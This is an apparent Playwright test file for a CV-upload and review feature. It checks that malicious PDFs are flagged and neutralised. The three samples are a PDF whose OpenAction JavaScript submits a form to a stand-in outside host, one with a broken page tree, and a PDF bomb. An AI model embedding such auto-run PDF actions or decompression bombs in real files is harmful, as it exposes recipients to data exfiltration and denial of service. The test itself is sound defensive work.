import type { Page } from '@playwright/test'
import { buildPdf, buildPdfBomb } from '../../src/server/archivos/testing/archivos-de-prueba.ts'
import { expect, ingresar, test } from './fixtures.ts'

/** Opens with a script, and names another address wherever one may be named. */
const withScript = () =>
  Buffer.from(
    buildPdf('Hola')
      .toString('latin1')
      .replace(
        '/Type /Catalog',
        '/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://ajeno.example"\\)) >> /AA << /WC << /S /URI /URI (http://ajeno.example) >> >>',
      ),
    'latin1',
  )

/** Its table points at nothing and its page has no end. */
const broken = () =>
  Buffer.from(buildPdf('Hola').toString('latin1').replace('/Kids [3 0 R]', '/Kids [9 0 R]'), 'latin1')

const send = (page: Page, nombre: string, buffer: Buffer, name = 'cv.pdf') =>
  page.request.post('api/mail/enviarcurri', {
    multipart: {
      nombre,
      plaza: 'Cajera',
      correo: 'x@correo.example',
      tel: '55551111',
      mensaje: 'Hola',
      archivo: { name, mimeType: 'application/pdf', buffer },
    },
  })

// What the viewer says of a file that it had to put together again.
// An inbox of its own: other files count what waits in theirs.
test.use({ consolaEsperada: /Indexing all PDF objects/, entorno: { MENSAJES_POR_HORA: '30' } })

test('hostile files end in a sentence on review, and no script of theirs runs', async ({ page }) => {
  // A timer of the viewer's: it would wait for twenty seconds, which are nothing to this test.
  await page.addInitScript(() => {
    const start = globalThis.setTimeout
    globalThis.setTimeout = ((run: TimerHandler, ms = 0, ...rest: unknown[]) =>
      start(run, ms === 20_000 ? 4_000 : ms, ...rest)) as typeof setTimeout
  })
  const fuera: string[] = []
  page.on('request', (request) => {
    if (request.url().includes('ajeno.example')) fuera.push(request.url())
  })
  page.on('dialog', () => fuera.push('a dialog'))
  await ingresar(page)

  for (const bytes of [Buffer.from('%PDF-1.4\nnada\n%%EOF'), Buffer.alloc(2_000)]) {
    expect((await send(page, 'Nadie', bytes)).status()).toBe(400)
  }
  for (const [nombre, bytes] of [
    ['Guion Adentro', withScript()],
    ['Roto Siempre', broken()],
    ['Bomba Enorme', buildPdfBomb(2_048)],
  ] as const) {
    expect((await send(page, nombre, bytes)).status()).toBe(200)
  }

  await page.goto('admin/cv/pendientes')
  await expect(page.getByText('Contenido activo')).toHaveCount(1)
  await page.getByRole('link', { name: 'Revisar los 3' }).click()
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Guion Adentro')
  // What the file brings is said, and its words stand there; itself comes when it is asked for.
  await expect(page.getByText('Este archivo trae contenido activo')).toBeVisible()
  await expect(page.getByText('Hola', { exact: true }).first()).toBeVisible()
  await expect(page.getByRole('link', { name: /^Abrir/ })).toHaveCount(0)
  await page.getByRole('button', { name: 'Ver el archivo' }).click()
  await expect(page.getByRole('img', { name: /página 1 de 1/ })).toBeVisible()
  await page.keyboard.press('j')
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Roto Siempre')
  await expect(page.getByText(/no se puede mostrar aquí|no se pudo mostrar/).first()).toBeVisible()
  await page.keyboard.press('j')
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Bomba Enorme')
  await expect(page.getByText(/no se puede mostrar aquí|no se pudo mostrar/).first()).toBeVisible()
  // The screen is as alive as before, and so is the server.
  await page.keyboard.press('d')
  await expect(page.getByText('Se descartó el CV de Bomba Enorme.')).toBeVisible()
  expect(fuera).toEqual([])
})
